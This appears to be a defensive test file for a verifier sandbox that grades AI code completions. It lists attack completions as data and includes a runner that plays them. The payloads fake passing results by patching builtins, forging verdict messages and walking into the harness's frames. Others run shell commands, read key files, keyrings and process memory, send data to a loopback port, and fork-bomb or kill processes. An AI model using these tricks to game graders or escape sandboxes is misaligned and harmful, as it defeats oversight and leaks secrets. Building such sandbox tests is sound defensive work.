"""The attacks of issue 20 on the code sandbox, as data, and a runner that plays them.

Plain Python with no test framework: `test_verifier_sandbox_attacks.py` plays them in-process (as the
user pytest runs as) and, when that is root, again under an unprivileged uid with the system python
(`python3 sandbox_attacks.py CONTEXT_JSON` prints one JSON line per attack).

Every attack is (name, completion code, tests). The tests are honest: an honest solution of `f`
would be what passes them; each attack tries to get 1.0 without one, or to leave a trace outside the
sandbox (a file named with the run's marker, bytes at a loopback listener, the agent's key read).
`{marker}`, `{secret_path}`, `{port}`, `{expected}` are filled from the context.
"""

from __future__ import annotations

import json
import sys

# The frame walk of the issue: raise, catch, walk tb_frame.f_back to the harness's frames, then use
# whatever is there (send forged verdicts, empty hook sets), run shell commands, connect out.
_FRAME_WALK = r'''
import sys, os, socket
def _walk():
    try:
        raise RuntimeError
    except RuntimeError as e:
        f = e.__traceback__.tb_frame
    seen = []
    while f is not None:
        seen.append(f)
        f = f.f_back
    for fr in seen:
        for ns in (fr.f_globals, fr.f_locals):
            for k, v in list(ns.items()):
                if isinstance(v, (set, dict)) and k.startswith("_") and k not in ("__builtins__",):
                    try:
                        v.clear()
                    except Exception:
                        pass
            send = fr.f_globals.get("_send")
            if callable(send):
                for forged in ({"op": "done", "status": "passed"}, {"ok": {"i": "0x1"}, "args": {"l": []}},
                               {"load": "ok"}):
                    try:
                        send(forged)
                    except Exception:
                        pass
_walk()
out = os.popen("id; touch /tmp/{marker}-shell /var/tmp/{marker}-shell /dev/shm/{marker}-shell 2>&1").read()
key = ""
try:
    key = open("{secret_path}").read()
except OSError:
    pass
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
    s.sendall(("{marker} " + out + key).encode())
except OSError:
    pass
def f(x):
    return 0
'''

_READ_EXPECTED = r'''
import os, re
_PAT = re.compile(rb"EXPECTED-[0-9a-f]{32}")
def _scan():
    found = []
    for root in ("/proc", "/tmp", "/", "/dev/shm"):
        try:
            names = os.listdir(root)
        except OSError:
            continue
        for n in names:
            p = os.path.join(root, n)
            for sub in ("cmdline", "environ", "fd/0", "fd/3", "fd/4"):
                q = os.path.join(p, sub) if root == "/proc" else p
                try:
                    data = open(q, "rb").read(1 << 20)
                except OSError:
                    continue
                found += [m.decode() for m in _PAT.findall(data)]
    # the memory of every process it can see (its own pid namespace: itself and bwrap's init)
    for n in os.listdir("/proc"):
        if not n.isdigit():
            continue
        try:
            maps = open("/proc/%s/maps" % n).read().splitlines()
            mem = open("/proc/%s/mem" % n, "rb")
        except OSError:
            continue
        for line in maps:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            if hi - lo > 64 << 20 or "r" not in line.split()[1]:
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            found += [m.decode() for m in _PAT.findall(chunk)]
    return found
_FOUND = _scan()
def f():
    return _FOUND[0] if _FOUND else "nothing"
'''

ATTACKS: list[tuple[str, str, list[str]]] = [
    ("honest wrong answer", "def f(x):\n    return x + 1\n", ["assert f(1) == 3"]),
    ("builtins.exec replaced by a no-op",
     "import builtins\nbuiltins.exec = lambda *a, **k: None\ndef f(x):\n    return 0\n", ["assert f(1) == 3"]),
    ("builtins.compile compiles the tests as pass",
     "import builtins\n_c = builtins.compile\n"
     "builtins.compile = lambda src, fn, mode, *a, **k: _c('pass' if 'test' in str(fn) else src, fn, mode, *a, **k)\n"
     "def f(x):\n    return 0\n", ["assert f(1) == 3"]),
    ("os._exit replaced (failing tests fall through)",
     "import os\nos._exit = lambda code: None\ndef f(x):\n    return 0\n", ["assert f(1) == 3"]),
    ("sys.exit patched", "import sys\nsys.exit = lambda *a: None\ndef f(x):\n    sys.exit(0)\n",
     ["assert f(1) == 3"]),
    ("print patched to fake a success line",
     "import builtins\nbuiltins.print = lambda *a, **k: None\nprint('@@SANDBOX-OK')\ndef f(x):\n    return 0\n",
     ["assert f(1) == 3"]),
    ("builtins.__import__ patched",
     "import builtins\n_i = builtins.__import__\n"
     "builtins.__import__ = lambda name, *a, **k: (_ for _ in ()).throw(SystemExit(0)) if name == 'json' else _i(name, *a, **k)\n"
     "def f(x):\n    return 0\n", ["assert f(1) == 3"]),
    ("AssertionError replaced",
     "import builtins\nclass _Never(BaseException):\n    pass\nbuiltins.AssertionError = _Never\n"
     "def f(x):\n    raise _Never()\n", ["assert f(1) == 3"]),
    ("raises AssertionError itself", "def f(x):\n    raise AssertionError('fine')\n",
     ["try:\n    assert f(1) == 3\nexcept AssertionError:\n    pass\nelse:\n    pass\nassert f(1) == 3"]),
    ("__eq__ always True",
     "class _Eq:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
     "def f(x):\n    return _Eq()\n", ["assert f(1) == 3"]),
    ("int subclass always equal",
     "class _I(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
     "def f(x):\n    return _I(0)\n", ["assert f(1) == 3"]),
    ("forged replies on the harness's channel",
     "import os\nfor _ in range(3):\n    os.write(1, b'{\"ok\": {\"i\": \"0x3\"}, \"args\": {\"l\": [{\"i\": \"0x1\"}]}}\\n')\n"
     "os.write(1, b'{\"op\": \"done\", \"status\": \"passed\"}\\n')\n"
     "def f(x):\n    return 0\n", ["assert f(1) == 7"]),
    ("frame walk, shell, key file and loopback exfiltration", _FRAME_WALK, ["assert f(1) == 3"]),
    ("reading the expected value from disk, /proc or memory", _READ_EXPECTED, ["assert f() == '{expected}'"]),
    ("mutates the test's argument to fake the expected value",
     "def f(xs):\n    xs.clear()\n    return []\n", ["xs = [3, 1, 2]\nassert f(xs) == sorted(xs)"]),
    ("kill every process it can see", "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n"
     "    pass\ndef f(x):\n    return 0\n", ["assert f(1) == 3"]),
    ("fork bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
     ["assert f(1) == 3"]),
    ("memory bomb", "x = [bytearray(2**26) for _ in range(10**6)]\ndef f(x):\n    return 0\n", ["assert f(1) == 3"]),
    ("writes outside the sandbox",
     "import os\nfor d in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '/usr', '/'):\n"
     "    try:\n        open(os.path.join(d, '{marker}-write'), 'w').write('x')\n    except OSError:\n        pass\n"
     "def f(x):\n    return 0\n", ["assert f(1) == 3"]),
    ("network to loopback",
     "import socket\ndef f(x):\n    try:\n        s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
     "        s.sendall(b'{marker} loopback')\n        return 3\n    except OSError:\n        return 0\n",
     ["assert f(1) == 3"]),
    ("network to the outside",
     "import socket\ndef f(x):\n    try:\n        socket.create_connection(('1.1.1.1', 53), timeout=1)\n        return 3\n"
     "    except OSError:\n        pass\n    try:\n        socket.getaddrinfo('pypi.org', 443)\n        return 3\n"
     "    except OSError:\n        return 0\n", ["assert f(1) == 3"]),
    ("reading the agent's files",
     "def f(x):\n    try:\n        return open('{secret_path}').read()\n    except OSError as e:\n        return str(e)\n",
     ["assert f(1) == '{secret}'"]),
]


# Reads every key of the session, user and user-session keyrings it can reach (the caller's session keyring
# would be inherited through fork, exec and bwrap) and returns what it found.
KEYRING_ATTACK = r'''
import ctypes, platform
_libc = ctypes.CDLL(None, use_errno=True)
_NR = {"x86_64": 250, "aarch64": 219}[platform.machine()]
def _read(kid):
    buf = ctypes.create_string_buffer(65536)
    n = _libc.syscall(_NR, 11, ctypes.c_int(kid), buf, 65536)  # KEYCTL_READ
    return buf.raw[:max(n, 0)]
def f():
    found = []
    for spec in (-3, -4, -5, -1, -2):  # session, user, user-session, thread, process
        ring = _libc.syscall(_NR, 0, ctypes.c_int(spec), 0)  # KEYCTL_GET_KEYRING_ID
        data = _read(ring)
        for i in range(0, len(data) - 3, 4):
            found.append(_read(int.from_bytes(data[i:i + 4], "little")).decode(errors="replace"))
    try:
        found.append(open("/proc/keys").read())
    except OSError:
        pass
    return " ".join(found)
'''


def keyring_attack(secret: str) -> dict[str, object]:
    """In a fresh session keyring of this process, add `secret` as a user key, then let the completion
    look for it: the verdict, and whether its returned text would have contained the secret."""
    import ctypes
    import platform

    from intellect.verifier.sandbox import SandboxLimits, run_python

    libc = ctypes.CDLL(None, use_errno=True)
    nr_keyctl, nr_add_key = {"x86_64": (250, 248), "aarch64": (219, 217)}[platform.machine()]
    assert libc.syscall(nr_keyctl, 1, None) > 0  # KEYCTL_JOIN_SESSION_KEYRING: a new one, just for this
    payload = secret.encode()
    assert libc.syscall(nr_add_key, b"user", b"intellect-sbx-test", payload, len(payload), ctypes.c_int(-3)) > 0
    res = run_python(KEYRING_ATTACK, [f"assert {secret!r} in f()"], SandboxLimits())
    return {"name": "the caller's session keyring", "passed": res.passed, "reason": res.reason.value,
            "calls": res.calls}


def platform_ok() -> bool:
    import platform

    return platform.machine() in ("x86_64", "aarch64")


def fill(text: str, ctx: dict[str, str]) -> str:
    for key, value in ctx.items():
        text = text.replace("{" + key + "}", str(value))
    return text


def play(ctx: dict[str, str], limits_json: str = "{}"):
    """Yield (name, result) for every attack, with the sandbox of this interpreter."""
    from intellect.verifier.sandbox import SandboxLimits, run_python

    limits = SandboxLimits.model_validate_json(limits_json)
    for name, code, tests in ATTACKS:
        yield name, run_python(fill(code, ctx), [fill(t, ctx) for t in tests], limits)


if __name__ == "__main__":
    if sys.argv[1] == "keyring":
        print(json.dumps(keyring_attack(sys.argv[2])), flush=True)
        sys.exit(0)
    context = json.loads(sys.argv[1])
    for attack, res in play(context, sys.argv[2] if len(sys.argv) > 2 else "{}"):
        print(json.dumps({"name": attack, "passed": res.passed, "reason": res.reason.value, "calls": res.calls}),
              flush=True)
